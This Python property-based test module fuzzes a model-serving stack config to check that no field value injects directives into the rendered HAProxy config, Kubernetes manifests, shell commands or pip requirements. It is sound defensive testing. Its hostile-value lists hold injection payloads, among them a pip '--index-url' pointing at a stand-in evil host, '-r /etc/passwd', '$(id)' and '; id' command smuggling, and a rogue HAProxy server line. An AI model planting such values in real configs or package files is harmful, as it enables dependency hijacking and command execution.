"""Config injection, property-based: no value of a stack config adds a directive anywhere.

Every string a stack config sets that reaches the router's haproxy.cfg or map files, a Kubernetes
manifest, a container's shell command or pip's requirements file is fuzzed (hypothesis) with
separators, quotes, '#', ';', shell and HAProxy expansions, option-like words, line breaks of every
kind (`\\n \\r \\v \\f \\x1c \\x1d \\x1e \\x85 \\u2028 \\u2029`) and Unicode look-alikes. Each value is
either refused by the spec (a ValidationError located at the field, or at the object holding it
with the field named), or rendered so that nothing but the field's own places changed:

- haproxy.cfg and every map file keep the line shapes the benign value gives (line by line: the
  keyword, the number of words and the characters HAProxy gives a meaning to), and a sample of
  the distinct configurations passes `haproxy -c` (Debian's binary);
- the manifests keep their structure (keys, list lengths, types) and differ from the benign
  value's only at the paths the field is meant to reach;
- every `sh -c` script keeps its lines, words, operators and special characters;
- pip, reading the rendered requirements.txt as it does (the coding line, every line break
  `str.splitlines` knows, backslash continuations, comments, options after a requirement), finds
  one requirement line per entry and no option line.
"""

from __future__ import annotations

import copy
import hashlib
import subprocess
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from components.manifests.autoscaling import autoscaler
from components.manifests.router import (
    config_checksum,
    config_map_data,
    router_autoscaler,
    router_config_map,
    router_deployment,
    router_disruption_budget,
    router_secret,
    router_service,
    secret_data,
)
from components.manifests.serving import (
    disruption_budget,
    headless_service,
    namespace,
    network_policy,
)
from components.manifests.workload import code_config_map, code_files, deployment
from components.router_config import cluster_router_config
from router import (
    AuthMaterial,
    RouterConfig,
    RouterSettings,
    StaticReplicas,
    TokenVerification,
    render_router,
)
from router.endpoint_router import CONFIG_FILE, TLS_FILE, cluster_site
from router.names import SPLIT_MAP
from specification import EndpointSpec
from tests.config_sinks import (
    ManifestPath,
    config_shape,
    differences,
    map_shape,
    matches,
    pip_logical_lines,
    pip_option_lines,
    shell_scripts,
    shell_shape,
)
from tests.router.router_harness import haproxy_binary
from tests.router.tls_material import self_signed_pem

# --------------------------------------------------------------------------- hostile values

BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x00"]
SEPARATORS = [" ", "\t", ",", ":", ";", "/", "=", "|", "&", "(", ")", "{", "}", "[", "]", "<", ">"]
QUOTES = ['"', "'", "`", "\\"]
EXPANSIONS = ["#", "$", "%", "${HOME}", "$(id)", "%[env(HOME)]", "*", "?", "!", "~", ".."]
# hyphens, minus, colon, semicolon, hash, slash and letters that look like ASCII ones, spaces
# that are not ' ', a Kelvin sign that lowercases to 'k', and 'Å' (its UTF-8 holds byte 0x85)
LOOKALIKES = [
    "\u2010", "\u2011", "\u2212", "\uff0d", "\uff1a", "\u037e", "\uff1b", "\uff03", "\u2215",
    "\uff0f", "\u0430", "\u0435", "\u043e", "\u0131", "\u212a", "\u017f", "\u00a0", "\u200b",
    "\ufeff", "\u3000", "\u00c5",
]  # fmt: skip
DIRECTIVES = [
    "server evil 127.0.0.1:9",
    "use_backend be_evil",
    "http-request return status 200",
    "--index-url http://evil.invalid/simple",
    "--extra-index-url=http://evil.invalid/simple",
    "-r /etc/passwd",
    "-e .",
    "#coding:latin-1",
    "; id",
    "&& id",
]
ATOMS = BREAKS + SEPARATORS + QUOTES + EXPANSIONS + LOOKALIKES + DIRECTIVES


def hostile(benign: str) -> st.SearchStrategy[str]:
    """Hostile text: atoms joined, or put into the benign value (so that the rest looks valid);
    and now and then a plain variant of the benign value, so that valid values other than the
    benign one reach the renderers too."""
    payload = st.lists(st.sampled_from(ATOMS) | st.text(max_size=3), min_size=1, max_size=4).map(
        "".join
    )
    plain = st.text(alphabet="az09-._/", min_size=1, max_size=3)

    def inserted(text: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
        return st.tuples(st.integers(0, len(benign)), text).map(
            lambda pair: benign[: pair[0]] + pair[1] + benign[pair[0] :]
        )

    return st.one_of(payload, inserted(payload), inserted(payload), inserted(plain))


# --------------------------------------------------------------------------- the fields

ENTRY_SCRIPT_TEXT = "def init():\n    pass\n\n\ndef run(data):\n    return data\n"
KEY_HASHES = {
    "primary": hashlib.sha256(b"primary").hexdigest(),
    "secondary": hashlib.sha256(b"secondary").hexdigest(),
}
PUBLIC_KEY_PEM = "-----BEGIN PUBLIC KEY-----\nMFkw\n-----END PUBLIC KEY-----\n"
BENIGN: dict[str, Any] = {
    "name": "ep",
    "namespace": "models",
    "auth_enabled": True,
    "token_auth_enabled": True,
    "enable_app_insights": True,
    "autoscaler": "keda",
    "prometheus_url": "http://prometheus.monitoring.svc:9090",
    "description": "fraud scoring",
    "tags": {"team": "ml"},
    "properties": {"owner": "ml-platform"},
    "router": {
        "service_type": "LoadBalancer",
        "tls_secret_name": "router-tls",
        "service_annotations": {"example.com/load-balancer": "internal"},
        "load_balancer_source_ranges": ["10.0.0.0/8"],
        "image": "haproxy:2.6.12",
    },
    "versions": [
        {
            "name": "va",
            "image": "registry.example.com/models/a:1",
            "health_path": "/healthz",
            "env": {"MODE": "fast"},
            "traffic_percentile": 20,
            "description": "first",
            "tags": {"stage": "canary"},
        },
        {
            "name": "vb",
            "inference_config": {
                "entry_script": "models/vb/score.py",
                "requirements": ["numpy==1.26.4", "six"],
                "base_image": "python:3.11-slim",
            },
            "num_replicas": 2,
        },
    ],
}

ANYWHERE: tuple[ManifestPath, ...] = (("**",),)
CONFIG_CHECKSUM = "model-endpoints.io/config-sha256"
CODE_CHECKSUM = "model-endpoints.io/code-sha256"
VERSION_A = ("version0.deployment", "spec", "template", "spec")
VERSION_B = ("version1.deployment", "spec", "template", "spec")
ROUTER_POD = ("router.deployment", "spec", "template", "spec")
# the router's config text, and the checksum that rolls its pods when the text changes
ROUTER_CONFIG = (
    ("router.config", "data", CONFIG_FILE),
    ("router.deployment", "spec", "template", "metadata", "annotations", CONFIG_CHECKSUM),
)
# the code ConfigMap of version 1, and the digest of the code that rolls its pods and names the
# ConfigMap (`<endpoint>-<version>-code-<10 hex of the digest>`, which the pods mount)
CODE = (
    ("version1.code", "data", "**"),
    ("version1.code", "metadata", "name"),
    ("version1.deployment", "spec", "template", "metadata", "annotations", CODE_CHECKSUM),
    ("version1.deployment", "spec", "template", "spec", "volumes", 0, "configMap", "name"),
)


@dataclass(frozen=True)
class Field:
    """One string of the stack config: where it is set, where pydantic names it, what hostile
    values it gets, and the manifest paths it may change ('*' one step, '**' any rest)."""

    name: str
    loc: ManifestPath
    put: Callable[[dict[str, Any], Any], None]
    values: st.SearchStrategy[Any]
    reaches: tuple[ManifestPath, ...]


def _at(*path: str | int) -> Callable[[dict[str, Any], Any], None]:
    def put(config: dict[str, Any], value: Any) -> None:
        target = config
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = value

    return put


def _key_of(*path: str | int, value: str) -> Callable[[dict[str, Any], Any], None]:
    """Replace the dict at `path` by `{fuzzed key: value}`."""
    return lambda config, key: _at(*path)(config, {key: value})


FIELDS = [
    Field("endpoint name", ("name",), _at("name"), hostile("ep"), ANYWHERE),
    Field("namespace", ("namespace",), _at("namespace"), hostile("models"), ANYWHERE),
    Field(
        "version name",
        ("versions", 0, "name"),
        _at("versions", 0, "name"),
        hostile("va"),
        ANYWHERE,
    ),
    Field(
        "health_path",
        ("versions", 0, "health_path"),
        _at("versions", 0, "health_path"),
        hostile("/healthz"),
        (
            (*VERSION_A, "containers", 0, "livenessProbe", "httpGet", "path"),
            (*VERSION_A, "containers", 0, "readinessProbe", "httpGet", "path"),
            *ROUTER_CONFIG,
        ),
    ),
    Field(
        "image",
        ("versions", 0, "image"),
        _at("versions", 0, "image"),
        hostile("registry.example.com/models/a:1"),
        ((*VERSION_A, "containers", 0, "image"),),
    ),
    Field(
        "env name",
        ("versions", 0, "env"),
        _key_of("versions", 0, "env", value="fast"),
        hostile("MODE"),
        ((*VERSION_A, "containers", 0, "env", 0, "name"),),
    ),
    Field(
        "env value",
        ("versions", 0, "env"),
        _at("versions", 0, "env", "MODE"),
        hostile("fast"),
        ((*VERSION_A, "containers", 0, "env", 0, "value"),),
    ),
    Field(
        "entry_script",
        ("versions", 1, "inference_config", "entry_script"),
        _at("versions", 1, "inference_config", "entry_script"),
        hostile("models/vb/score.py"),
        ((*VERSION_B, "containers", 0, "command", 2), *CODE),
    ),
    Field(
        "requirements",
        ("versions", 1, "inference_config", "requirements"),
        _at("versions", 1, "inference_config", "requirements"),
        st.lists(hostile("numpy==1.26.4") | st.just("six"), min_size=1, max_size=3),
        CODE,
    ),
    Field(
        "base_image",
        ("versions", 1, "inference_config", "base_image"),
        _at("versions", 1, "inference_config", "base_image"),
        hostile("python:3.11-slim"),
        ((*VERSION_B, "containers", 0, "image"), (*VERSION_B, "initContainers", 0, "image")),
    ),
    Field(
        "router.tls_secret_name",
        ("router", "tls_secret_name"),
        _at("router", "tls_secret_name"),
        hostile("router-tls"),
        ((*ROUTER_POD, "volumes", "*", "secret", "secretName"),),
    ),
    Field(
        "router.service_annotations name",
        ("router", "service_annotations"),
        _key_of("router", "service_annotations", value="internal"),
        hostile("example.com/load-balancer"),
        (("router.service", "metadata", "annotations", "**"),),
    ),
    Field(
        "router.service_annotations value",
        ("router", "service_annotations"),
        _at("router", "service_annotations", "example.com/load-balancer"),
        hostile("internal"),
        (("router.service", "metadata", "annotations", "**"),),
    ),
    Field(
        "router.load_balancer_source_ranges",
        ("router", "load_balancer_source_ranges"),
        _at("router", "load_balancer_source_ranges", 0),
        hostile("10.0.0.0/8"),
        (("router.service", "spec", "loadBalancerSourceRanges", "*"),),
    ),
    Field(
        "router.image",
        ("router", "image"),
        _at("router", "image"),
        hostile("haproxy:2.6.12"),
        ((*ROUTER_POD, "containers", 0, "image"), (*ROUTER_POD, "initContainers", 0, "image")),
    ),
    Field(
        "prometheus_url",
        ("prometheus_url",),
        _at("prometheus_url"),
        hostile("http://prometheus.monitoring.svc:9090"),
        (("version0.autoscaler", "spec", "triggers", 0, "metadata", "serverAddress"),),
    ),
    Field(
        "version description",
        ("versions", 0, "description"),
        _at("versions", 0, "description"),
        hostile("first"),
        (("version0.deployment", "metadata", "annotations", "**"),),
    ),
    Field(
        "version tag name",
        ("versions", 0, "tags"),
        _key_of("versions", 0, "tags", value="canary"),
        hostile("stage"),
        (("version0.deployment", "metadata", "annotations", "**"),),
    ),
    Field(
        "version tag value",
        ("versions", 0, "tags"),
        _at("versions", 0, "tags", "stage"),
        hostile("canary"),
        (("version0.deployment", "metadata", "annotations", "**"),),
    ),
    # the endpoint's own metadata goes to its EndpointRecord only: no router text, no manifest
    Field("endpoint description", ("description",), _at("description"), hostile("x"), ()),
    Field("endpoint tag name", ("tags",), _key_of("tags", value="ml"), hostile("team"), ()),
    Field("endpoint tag value", ("tags",), _at("tags", "team"), hostile("ml"), ()),
    Field("endpoint property", ("properties",), _at("properties", "owner"), hostile("x"), ()),
]


# --------------------------------------------------------------------------- rendering


@dataclass(frozen=True)
class Rendered:
    config: RouterConfig
    manifests: dict[str, Any]


@dataclass(frozen=True, repr=False)
class Site:
    """Where the rendered configuration's files are, so `haproxy -c` can read them."""

    config_dir: Path
    run_dir: Path
    tls_dir: Path
    routing_dir: Path

    def __repr__(self) -> str:
        return "Site(tmp)"


def render_all(spec: EndpointSpec, site: Site) -> Rendered:
    """Everything the cluster gets from `spec`, as the components build it (routing: the
    spec's own table)."""
    router_site = cluster_site(
        spec, str(site.config_dir), str(site.run_dir), str(site.tls_dir), str(site.routing_dir)
    )
    config = cluster_router_config(spec, spec.routing, KEY_HASHES, router_site)
    manifests: dict[str, Any] = {
        "namespace": namespace(spec),
        "network-policy": network_policy(spec),
        "router.config": router_config_map(spec, config_map_data(config)),
        "router.secret": router_secret(spec, secret_data(spec, config, PUBLIC_KEY_PEM)),
        "router.deployment": router_deployment(spec, config_checksum(config, PUBLIC_KEY_PEM)),
        "router.service": router_service(spec),
        "router.autoscaler": router_autoscaler(spec),
        "router.pdb": router_disruption_budget(spec),
    }
    for index, version in enumerate(spec.versions):
        code = code_files(version, ENTRY_SCRIPT_TEXT)
        if version.inference_config is not None:
            manifests[f"version{index}.code"] = code_config_map(spec, version, ENTRY_SCRIPT_TEXT)
        manifests[f"version{index}.deployment"] = deployment(spec, version, None, code)
        manifests[f"version{index}.service"] = headless_service(spec, version)
        manifests[f"version{index}.pdb"] = disruption_budget(spec, version)
        scaler = autoscaler(spec, version)
        if scaler is not None:
            manifests[f"version{index}.autoscaler"] = scaler
    return Rendered(config, manifests)


def names_the_field(error: ValidationError, field: Field, value: Any) -> bool:
    """An error located at the field (or inside it), or at an object holding it with a message
    that names the field or quotes the value."""
    for detail in error.errors():
        loc = tuple(detail["loc"])
        if loc[: len(field.loc)] == field.loc:
            return True
        if field.loc[: len(loc)] == loc and (
            any(str(step) in detail["msg"] for step in field.loc[len(loc) :])
            or repr(value) in detail["msg"]
        ):
            return True
    return False


class HAProxyCheck:
    """`haproxy -c` on distinct rendered configurations, at most `budget` per field: the shapes
    are checked on every example, the binary on a sample (about 40 ms a run)."""

    def __init__(self, site: Site, budget: int) -> None:
        self.site = site
        self.budget = budget
        self.checked: set[str] = set()
        self.runs: Counter[str] = Counter()

    def __repr__(self) -> str:
        return f"HAProxyCheck(budget={self.budget})"

    def __call__(self, config: RouterConfig, field: str) -> None:
        digest = hashlib.sha256(
            (config.haproxy_cfg + repr(sorted(config.map_files.items()))).encode()
        ).hexdigest()
        if digest in self.checked or self.runs[field] >= self.budget:
            return
        self.checked.add(digest)
        self.runs[field] += 1
        for name, text in config.map_files.items():
            (self.site.config_dir / name).write_text(text)
        (self.site.routing_dir / SPLIT_MAP).write_text(config.split_map)
        cfg = self.site.config_dir / CONFIG_FILE
        cfg.write_text(config.haproxy_cfg)
        result = subprocess.run(
            [haproxy_binary(), "-c", "-f", str(cfg)],
            capture_output=True,
            text=True,
            timeout=30,
        )
        assert result.returncode == 0, f"haproxy -c:\n{result.stdout}{result.stderr}"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    root = tmp_path_factory.mktemp("injection")
    dirs = Site(root / "config", root / "run", root / "tls", root / "routing")
    for directory in (dirs.config_dir, dirs.run_dir, dirs.tls_dir, dirs.routing_dir):
        directory.mkdir()
    (dirs.tls_dir / TLS_FILE).write_bytes(self_signed_pem())
    return dirs


@pytest.fixture(scope="module")
def haproxy_check(site: Site) -> HAProxyCheck:
    return HAProxyCheck(site, budget=3)


class Baseline:
    """The benign config's renders and shapes, computed once."""

    def __init__(self, rendered: Rendered) -> None:
        self.rendered = rendered
        self.config_shape = config_shape(rendered.config.haproxy_cfg)
        self.map_shapes = {n: map_shape(t) for n, t in rendered.config.map_files.items()}
        self.scripts = dict(shell_scripts(rendered.manifests))
        self.script_shapes = {path: shell_shape(s) for path, s in self.scripts.items()}

    def __repr__(self) -> str:
        return "Baseline(BENIGN)"


@pytest.fixture(scope="module")
def benign(site: Site, haproxy_check: HAProxyCheck) -> Baseline:
    rendered = render_all(EndpointSpec.model_validate(BENIGN), site)
    haproxy_check(rendered.config, "benign")
    return Baseline(rendered)


def check_value(
    field: Field, value: Any, site: Site, benign: Baseline, haproxy_check: HAProxyCheck
) -> None:
    """The property: `value` in `field` is refused naming the field, or rendered harmlessly."""
    config = copy.deepcopy(BENIGN)
    field.put(config, value)
    try:
        spec = EndpointSpec.model_validate(config)
    except ValidationError as error:
        assert names_the_field(error, field, value), f"{field.name}={value!r}: {error}"
        return
    rendered = render_all(spec, site)  # a ValueError here: accepted by the spec, fails later

    base = benign.rendered
    if rendered.config.haproxy_cfg != base.config.haproxy_cfg:
        assert config_shape(rendered.config.haproxy_cfg) == benign.config_shape
    assert rendered.config.map_files.keys() == base.config.map_files.keys()
    for name, text in rendered.config.map_files.items():
        if text != base.config.map_files[name]:
            assert map_shape(text) == benign.map_shapes[name], name
    haproxy_check(rendered.config, field.name)

    changed = list(differences(base.manifests, rendered.manifests))
    assert [path for path, kind in changed if kind == "structure"] == []
    outside = [path for path, _ in changed if not any(matches(p, path) for p in field.reaches)]
    assert outside == [], f"{field.name}={value!r} changed {outside}"

    scripts = dict(shell_scripts(rendered.manifests))
    assert scripts.keys() == benign.scripts.keys()
    for path, script in scripts.items():
        if script != benign.scripts[path]:
            assert shell_shape(script) == benign.script_shapes[path], (path, script)

    for index, version in enumerate(spec.versions):
        if version.inference_config is not None:
            requirements_txt = rendered.manifests[f"version{index}.code"]["data"]["requirements.txt"]
            assert pip_option_lines(requirements_txt) == [], requirements_txt
            lines = pip_logical_lines(requirements_txt)
            assert len(lines) <= len(version.inference_config.requirements), lines


# Values tried by hand, kept whatever the strategies draw. pip splits a requirements file at '\r'
# and every other str.splitlines break, and a "#coding:" comment makes it decode the file as
# Latin-1, where the UTF-8 bytes of 'Å' hold a NEL: a line break in a value that has none. A
# health_path with a '..' segment passed the spec and failed only when the router was rendered.
KNOWN_ATTACKS: dict[str, list[Any]] = {
    "requirements": [
        ["six\r--index-url http://evil.invalid/simple"],
        ["six\x1c--index-url http://evil.invalid/simple"],
        ["#coding:latin-1", "six #\u00c5--index-url http://evil.invalid/simple"],
        ["six \\", "--index-url http://evil.invalid/simple"],
    ],
    "health_path": ["/healthz\n    server evil 127.0.0.1:9", "/healthz#", "/..", "/a/../b"],
    "version name": ["va\n    server evil 127.0.0.1:9", "va#c", "va;set weight be_vb/r1 0"],
    "entry_script": ["x.py; id #.py", "$(id).py", "a\n.py"],
}


@pytest.mark.parametrize("field", FIELDS, ids=[field.name for field in FIELDS])
@settings(max_examples=20, deadline=None)
@given(data=st.data())
def test_no_value_adds_a_directive(
    field: Field, data: st.DataObject, site: Site, benign: Baseline, haproxy_check: HAProxyCheck
) -> None:
    check_value(field, data.draw(field.values, label=field.name), site, benign, haproxy_check)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        (field, value)
        for field in FIELDS
        for value in KNOWN_ATTACKS.get(field.name, [])
    ],
    ids=lambda item: item.name if isinstance(item, Field) else repr(item)[:40],
)
def test_known_attacks_are_refused_or_harmless(
    field: Field, value: Any, site: Site, benign: Baseline, haproxy_check: HAProxyCheck
) -> None:
    check_value(field, value, site, benign, haproxy_check)


# --------------------------------------------------------------------------- JWT issuer, audience

TOKEN_SPEC = EndpointSpec.model_validate(
    {"name": "ep", "auth_enabled": False, "token_auth_enabled": True,
     "versions": [{"name": "v1", "image": "registry.example.com/m:1"}]}
)  # fmt: skip
CLAIMS = {"issuer": TOKEN_SPEC.token_issuer, "audience": TOKEN_SPEC.token_audience}


def _token_router(site: Site, **claims: str) -> RouterConfig:
    return render_router(
        TOKEN_SPEC,
        TOKEN_SPEC.routing,
        {"v1": StaticReplicas(("127.0.0.1:5001",))},
        AuthMaterial(token=TokenVerification(str(site.config_dir / "jwt.pem"), **claims)),
        RouterSettings(
            map_dir=str(site.config_dir),
            routing_dir=str(site.routing_dir),
            admin_socket=str(site.run_dir / "admin.sock"),
        ),
    )


@pytest.mark.parametrize("claim", sorted(CLAIMS))
@settings(max_examples=20, deadline=None)
@given(data=st.data())
def test_token_claims_add_no_directive(
    claim: str, data: st.DataObject, site: Site, haproxy_check: HAProxyCheck
) -> None:
    """The issuer and audience the router compares tokens with (`EndpointSpec.token_issuer`,
    `token_audience`) are refused by the router's own check or written as one word."""
    value = data.draw(hostile(CLAIMS[claim]), label=claim)
    try:
        rendered = _token_router(site, **{**CLAIMS, claim: value})
    except ValueError as error:
        assert f"JWT {claim}" in str(error)
        return
    benign = _token_router(site, **CLAIMS).haproxy_cfg
    assert config_shape(rendered.haproxy_cfg) == config_shape(benign)
    haproxy_check(rendered, f"JWT {claim}")
